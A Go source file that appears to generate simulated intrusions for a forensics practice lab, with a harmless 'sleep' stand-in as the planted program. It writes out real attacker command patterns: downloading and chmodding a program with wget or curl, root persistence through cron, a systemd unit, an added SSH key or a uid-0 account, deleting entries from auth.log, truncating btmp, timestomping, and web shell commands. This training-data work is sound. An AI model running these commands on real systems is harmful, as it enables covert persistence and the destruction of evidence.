package scenarios

import (
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"telltale/lab"
	"telltale/lab/site"
)

// waiter is the stand-in of a program: it waits and does nothing else.
func waiter(f *lab.Foe) []byte {
	return []byte("#!/bin/sh\n# practice stand-in " + f.Marks + ": waits\nsleep 3\n")
}

// looks are the first lines of somebody who does not know where he is.
func looks(p *lab.Play) []string {
	all := []string{"id", "uname -a", "w", "cat /etc/passwd", "ls -la", "ps aux", "cat /proc/cpuinfo", "df -h", "ip a"}
	p.Rand.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	return all[:2+p.Rand.IntN(4)]
}

// brings fetches the foe's program into its hideout.
func brings(p *lab.Play, f *lab.Foe) (lines []string, program string, err error) {
	program = f.Dir + "/" + f.Program
	url := "http://" + f.Addresses[0].String() + "/" + f.Program
	err = p.Stage.Serve(f.Addresses[0], "/"+f.Program, waiter(f))
	get := lab.Pick(p, "wget -q "+url+" -O "+program, "curl -s "+url+" -o "+program)
	if !p.Stage.Written() {
		get = "wget -q " + url + " -O " + program
	}
	return []string{"mkdir -p " + f.Dir, get, "chmod +x " + program}, program, err
}

// stays are the ways to come back that root can leave: some of cron, a unit, a key, an account.
func stays(p *lab.Play, f *lab.Foe, program string) (lines []string, left func()) {
	var told []func()
	tell := func(mechanism, path, as string) {
		told = append(told, func() { p.Left(mechanism, path, as) })
	}
	ways := []func(){
		func() {
			lines = append(lines, fmt.Sprintf("echo '*/%d * * * * root %s >/dev/null 2>&1' > /etc/cron.d/%s", 5+p.Rand.IntN(20), program, f.CronFile))
			tell("cron", "/etc/cron.d/"+f.CronFile, "root")
		},
		func() {
			lines = append(lines, fmt.Sprintf("printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=%s\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/%s.service", f.Unit, program, f.Unit),
				"systemctl enable --now "+f.Unit)
			tell("systemd-unit", "/etc/systemd/system/"+f.Unit+".service", "root")
		},
		func() {
			lines = append(lines, "mkdir -p /root/.ssh", "echo '"+f.Key.Public()+"' >> /root/.ssh/authorized_keys", "chmod 600 /root/.ssh/authorized_keys")
			tell("ssh-key", "/root/.ssh/authorized_keys", "root")
		},
		func() {
			lines = append(lines, "useradd -o -u 0 -g 0 -m -d /var/"+f.Account+" -s /bin/bash "+f.Account, "echo '"+f.Account+":"+f.Marks+"' | chpasswd")
			tell("account", "/etc/passwd", f.Account)
		},
	}
	p.Rand.Shuffle(len(ways), func(i, j int) { ways[i], ways[j] = ways[j], ways[i] })
	for _, w := range ways[:2+p.Rand.IntN(2)] {
		w()
	}
	return lines, func() {
		for _, t := range told {
			t()
		}
	}
}

// hides are ways to cover up as root. Of auth.log and btmp, which both tell of refused passwords, only one is touched:
// without both it would be another question.
func hides(p *lab.Play, f *lab.Foe, program string, from netip.Addr) (lines []string, told func()) {
	var altered [][2]string
	if p.Rand.IntN(2) == 0 {
		lines = append(lines, "sed -i '/"+from.String()+"/d' /var/log/auth.log")
		altered = append(altered, [2]string{"log-edited", "/var/log/auth.log"})
	} else {
		lines = append(lines, ": > /var/log/btmp")
		altered = append(altered, [2]string{"log-cut", "/var/log/btmp"})
	}
	if p.Rand.IntN(2) == 0 {
		lines = append(lines, fmt.Sprintf("touch -d '20%02d-0%d-1%d 0%d:%02d:00' %s", 19+p.Rand.IntN(3), 1+p.Rand.IntN(9), p.Rand.IntN(9), p.Rand.IntN(9), p.Rand.IntN(60), program))
		altered = append(altered, [2]string{"timestomped", program})
	}
	return lines, func() {
		for _, a := range altered {
			p.Altered(a[0], a[1])
		}
	}
}

// asks requests a stand-in of a web shell, command by command.
func asks(p *lab.Play, f *lab.Foe, path string, commands int) error {
	for i := range commands {
		if err := p.Pause(6); err != nil {
			return err
		}
		if _, err := p.Get("web_shell", lab.Intruder, fmt.Sprintf("runs command %d of the script", i+1), lab.Request{From: f.Addresses[0], Path: fmt.Sprintf("%s?c=%d", path, i+1), Agent: f.Agent}); err != nil {
			return err
		}
	}
	return nil
}

// webShell gives a stand-in of a web shell that looks around, and brings a program that cron keeps running.
func webShell(p *lab.Play, f *lab.Foe) (script []byte, n int, program string, err error) {
	program = site.Root + "/uploads/." + f.Marks[:4] + "/" + f.Program
	if p.Rand.IntN(2) == 0 || !p.Setup.Has(lab.Web) {
		program = f.Dir + "/" + f.Program
	}
	url := "http://" + f.Addresses[0].String() + "/" + f.Program
	commands := []string{"id", "uname -a", "mkdir -p " + program[:strings.LastIndex(program, "/")] + "; wget -q -O " + program + " " + url + "; chmod +x " + program,
		fmt.Sprintf("echo \"*/%d * * * * %s >/dev/null 2>&1\" | crontab -", 3+p.Rand.IntN(20), program)}
	return site.Shell(f.Marks, commands...), len(commands), program, p.Stage.Serve(f.Addresses[0], "/"+f.Program, waiter(f))
}

// steps does one thing after the other until one fails.
func steps(list ...func() error) error {
	for _, f := range list {
		if err := f(); err != nil {
			return err
		}
	}
	return nil
}

// rootVisit is a visit that looks around, brings a program, becomes root by sudo, stays and hides.
func rootVisit(p *lab.Play, f *lab.Foe, what string, l lab.Login) error {
	fetch, program, err := brings(p, f)
	if err != nil {
		return err
	}
	stay, left := stays(p, f, program)
	hide, hid := hides(p, f, program, l.From)
	lines := append(append(looks(p), fetch...), "sudo -i")
	unset := p.Rand.IntN(2) == 0
	if unset {
		lines = append(lines, "unset HISTFILE")
	}
	lines = append(append(append(lines, stay...), ":cron"), hide...)
	lines = append(lines, "exit")
	if err := p.Visit(lab.Intruder, what, l, lines...); err != nil {
		return err
	}
	left()
	hid()
	p.Root(true)
	p.Truth.Expect.Files = append(p.Truth.Expect.Files, program)
	return nil
}

func status(p *lab.Play, s string) { p.Truth.Expect.Status = s }

func attempts(errs ...error) error { return errors.Join(errs...) }
